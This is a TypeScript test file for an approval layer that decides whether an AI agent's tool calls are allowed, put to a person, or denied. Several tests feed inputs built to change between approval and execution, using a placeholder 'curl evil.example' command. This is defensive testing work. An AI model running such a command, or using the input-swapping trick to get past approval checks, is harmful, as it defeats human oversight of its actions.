import { describe, expect, it } from 'vitest';
import { plainCopy } from './plain-copy.js';
import { allow, call, ids, setUp } from './session-setup.js';
import type { PermissionRequest } from './types.js';

describe('a step with an allowed, an asking and a denied call', () => {
  const read = call('r', 'read', { path: 'a' });
  const send = call('s', 'send', { to: 'ann' });
  const drop = call('d', 'drop');

  it('runs each once, as decided', async () => {
    const { session, told } = setUp();
    const decisions = await session.evaluate([read, send, drop], { step: 'm1' });
    expect(decisions.map(({ behavior }) => behavior)).toEqual(['allow', 'ask', 'deny']);
    expect(await session.claim(read)).toEqual({ ok: true, input: read.input });
    expect(await session.claim(send)).toMatchObject({ ok: false, reason: 'asking' });
    expect(await session.claim(drop)).toEqual({
      ok: false,
      reason: 'denied',
      modelMessage: 'policy says deny to drop',
    });
    await session.finish('r', { outcome: 'executed' });
    expect(await session.answer(allow('s'), { by: 'ann' })).toMatchObject([
      { ok: true, decision: { behavior: 'allow', decidedBy: 'person', input: send.input } },
    ]);
    expect(await session.claim(send)).toEqual({ ok: true, input: send.input });
    await session.finish('s', { outcome: 'failed', error: 'no network' });
    expect(await session.claim(send)).toMatchObject({ ok: false, reason: 'used' });
    expect(told).toEqual([
      'decision r',
      'decision s',
      'ask s',
      'decision d',
      'finish d denied',
      'claim r',
      'finish r executed',
      'answer s',
      'claim s',
      'finish s failed',
    ]);
  });

  it('gives a claim back the very copy that it was asked with', async () => {
    const own = { ...read, input: plainCopy(read.input) };
    const claim = await setUpAndClaim(own);
    expect(claim.ok && claim.input).toBe(own.input);
    const other = await setUpAndClaim(read);
    expect(other.ok && other.input).toEqual(read.input);
    expect(other.ok && other.input).not.toBe(read.input);
  });

  it.each<[string, (input: { command: string }) => unknown]>([
    ['changed while it waits', (input) => input],
    ['read otherwise each time', () => turning('curl evil.example', 'npm test')],
    [
      'written otherwise than it is read',
      () => ({ command: 'npm test', toJSON: () => ({ command: 'curl evil.example' }) }),
    ],
    ['a list that is written otherwise', () => Object.assign(['evil'], { toJSON: () => ['npm test'] })],
  ])('decides, shows and runs one and the same input: %s', async (_what, make) => {
    const { session, engine } = setUp();
    const given = { command: 'curl evil.example' };
    const input = make(given);
    const announced = session.evaluate({ id: 'c', name: 'ask', input });
    given.command = 'npm test';
    const decision = await announced;
    const [question] = await session.pending();
    const [seen] = engine.checked.slice(-1);
    expect(question?.input).toEqual(seen?.input);
    expect(decision.input).toEqual(seen?.input);
    await session.answer({ toolCallId: 'c', behavior: 'allow', fingerprint: question?.fingerprint ?? '' });
    const claim = await session.claim({ id: 'c', name: 'ask', input: seen?.input });
    expect(claim.ok && claim.input).toEqual(seen?.input);
    expect(await session.claim({ id: 'c', name: 'ask', input: { command: 'other' } })).toMatchObject({ ok: false });
  });

  it('denies what cannot be read, and does not throw', async () => {
    const { session } = setUp();
    const input = {
      get a() {
        throw new Error('no');
      },
    };
    expect(await session.evaluate({ id: 'c', name: 'ask', input })).toMatchObject({ behavior: 'deny' });
  });

  async function setUpAndClaim(one: typeof read) {
    const { session } = setUp();
    await session.evaluate(one);
    return session.claim(one);
  }
});

describe('announcing', () => {
  it('does not ask twice, in this session object or another', async () => {
    const { session, open, told } = setUp();
    const send = call('s', 'send', { to: 'ann' });
    await session.evaluate(send, { step: 1 });
    expect(await session.evaluate(send, { step: 1 })).toMatchObject({ behavior: 'ask' });
    expect(await open().evaluate({ ...send, input: { to: 'ann' } }, { step: 1 })).toMatchObject({ behavior: 'ask' });
    expect(told).toEqual(['decision s', 'ask s']);
  });

  it('refuses an id that is open for another call, and leaves that call alone', async () => {
    const { session } = setUp();
    await session.evaluate(call('c', 'read', { path: 'a' }), { step: 1 });
    expect(await session.evaluate(call('c', 'read', { path: 'b' }), { step: 2 })).toMatchObject({
      behavior: 'deny',
      decidedBy: 'error',
    });
    expect(await session.claim(call('c', 'read', { path: 'b' }))).toMatchObject({ ok: false, reason: 'changed' });
    expect(await session.claim(call('c', 'read', { path: 'a' }))).toMatchObject({ ok: true });
    expect(await session.evaluate(call('c', 'read', { path: 'a' }), { step: 2 })).toMatchObject({
      behavior: 'deny',
      decidedBy: 'error',
    });
  });

  it('of two calls with one id in a step, takes the first', async () => {
    const { session } = setUp();
    const decisions = await session.evaluate([call('c', 'send', { to: 'ann' }), call('c', 'send', { to: 'bob' })]);
    expect(decisions.map(({ behavior }) => behavior)).toEqual(['ask', 'deny']);
    expect(await session.pending()).toMatchObject([{ input: { to: 'ann' } }]);
  });

  it('takes a reused id after the end as a new call', async () => {
    const { session } = setUp();
    const send = call('call_0', 'send', { to: 'ann' });
    await session.evaluate(send);
    await session.answer(allow('call_0'));
    await session.claim(send);
    await session.finish('call_0', { outcome: 'executed' });
    expect(await session.evaluate(send)).toMatchObject({ behavior: 'ask' });
    expect(await session.claim(send)).toMatchObject({ reason: 'asking' });
  });

  it('takes the same call of the same step as what it was, also after its end', async () => {
    const { session, told } = setUp();
    const drop = call('d', 'drop');
    await session.evaluate(drop, { step: 's' });
    const before = told.length;
    expect(await session.evaluate(drop, { step: 's' })).toMatchObject({ behavior: 'deny', decidedBy: 'deny-rule' });
    expect(told).toHaveLength(before);
    const read = call('r', 'read');
    await session.evaluate(read, { step: 's' });
    await session.claim(read);
    await session.finish('r', { outcome: 'executed' });
    await session.evaluate(read, { step: 's' });
    expect(await session.claim(read)).toMatchObject({ reason: 'used' });
    expect(await session.evaluate(read, { step: 't' })).toMatchObject({ behavior: 'allow' });
    expect(await session.claim(read)).toMatchObject({ ok: true });
  });

  it.each([
    [
      'a cycle',
      () => {
        const cycle: Record<string, unknown> = {};
        cycle.self = cycle;
        return cycle;
      },
    ],
    ['a bigint', () => ({ amount: 1n })],
    ['a function', () => ({ run: () => 1 })],
    ['a Map', () => new Map([['a', 1]])],
    ['no number', () => ({ amount: Number.NaN })],
  ])('denies an input that is not JSON: %s', async (_what, make) => {
    const { session } = setUp();
    const bad = call('b', 'read', make());
    expect(await session.evaluate(bad)).toMatchObject({ behavior: 'deny', decidedBy: 'error' });
    expect(await session.claim(bad)).toMatchObject({ ok: false });
  });

  it('denies a call without an id', async () => {
    const { session } = setUp();
    expect(await session.evaluate(call('', 'read'))).toMatchObject({ behavior: 'deny', decidedBy: 'error' });
  });

  it.each(['constructor', '__proto__', 'a/b', 'ä\ud800', '>', 'x'.repeat(500)])('takes any id: %j', async (id) => {
    const { session } = setUp({ id });
    await session.evaluate(call(id, 'read'));
    expect(await session.claim(call(id, 'read'))).toMatchObject({ ok: true });
    expect(await setUp({ id: `${id}/` }).session.claim(call(id, 'read'))).toMatchObject({ reason: 'unknown' });
  });
});

describe('nobody there', () => {
  it('denies what would ask, and keeps reason and suggestions', async () => {
    const { session } = setUp({ canAsk: false });
    const decision = await session.evaluate(call('a', 'send'));
    expect(decision).toMatchObject({ behavior: 'deny', decidedBy: 'no-approver' });
    expect(decision.suggestions).toHaveLength(2);
    expect(decision.message).toContain('send: ask');
    expect(await session.claim(call('a', 'send'))).toMatchObject({ reason: 'denied' });
    expect(await session.pending()).toEqual([]);
  });

  it('does not take an ask away from a session where somebody is', async () => {
    const { session, open } = setUp();
    await session.evaluate(call('a', 'send'));
    expect(await open({ canAsk: false }).evaluate(call('a', 'send'))).toMatchObject({ decidedBy: 'no-approver' });
    expect(await ids(session)).toEqual(['a']);
  });
});

describe('an approver of the host', () => {
  it('answers at once, one question after the other', async () => {
    const asked: PermissionRequest[] = [];
    const { session } = setUp({
      onAsk: (request) => {
        asked.push(request);
        return request.toolName === 'send' ? { ...allow(request.toolCallId), remember: 1, by: 'cli' } : undefined;
      },
    });
    const decisions = await session.evaluate([
      call('a', 'send', { to: 'ann' }),
      call('b', 'send', { to: 'bob' }),
      call('c', 'post'),
    ]);
    expect(decisions.map(({ behavior, decidedBy }) => `${behavior} ${decidedBy}`)).toEqual([
      'allow person',
      'allow allow-rule',
      'ask mode',
    ]);
    expect(asked.map(({ toolCallId }) => toolCallId)).toEqual(['a', 'c']);
    expect(await ids(session)).toEqual(['c']);
  });

  it.each([
    [
      'throws',
      () => {
        throw new Error('terminal is gone');
      },
    ],
    ['answers for another call', () => allow('zzz')],
    ['answers what makes no sense', (request: PermissionRequest) => ({ ...allow(request.toolCallId), remember: 99 })],
  ])('that %s denies', async (_what, onAsk) => {
    const { session } = setUp({ onAsk });
    expect(await session.evaluate(call('a', 'send'))).toMatchObject({ behavior: 'deny', decidedBy: 'error' });
    expect(await session.claim(call('a', 'send'))).toMatchObject({ reason: 'denied' });
  });
});

describe('looking', () => {
  it('says what became of a call, and changes nothing', async () => {
    const { session, open, store } = setUp();
    const send = call('s', 'send', { to: 'ann' });
    expect(await session.look(send)).toMatchObject({ refusal: { reason: 'unknown' } });
    await session.evaluate(send, { step: 'm' });
    await session.answer({ ...allow('s'), input: { to: 'ann', danger: 'fire' } });
    const before = await store.list('');
    expect(await open().look(send)).toMatchObject({
      state: 'asking',
      step: 'm',
      edited: true,
      refusal: { reason: 'asking' },
    });
    expect(await store.list('')).toEqual(before);
  });
});

describe('a call that its author wants approved', () => {
  it('asks where the rules allow it, and no remembered rule settles it', async () => {
    const { session } = setUp();
    const askAnyway = 'the author of read wants approval';
    expect(await session.evaluate(call('a', 'read'), { askAnyway })).toMatchObject({
      behavior: 'ask',
      decidedBy: 'tool',
    });
    expect(await session.evaluate(call('d', 'drop'), { askAnyway })).toMatchObject({ behavior: 'deny' });
    await session.evaluate(call('s', 'send'));
    await session.answer({ ...allow('s'), remember: 1 });
    expect(await ids(session)).toEqual(['a']);
    await session.answer(allow('a'));
    expect(await session.claim(call('a', 'read'))).toMatchObject({ ok: true });
  });
});

/** Says something else each time it is read. */
function turning(...texts: string[]): object {
  return {
    get command() {
      return texts.length > 1 ? texts.shift() : texts[0];
    },
  };
}
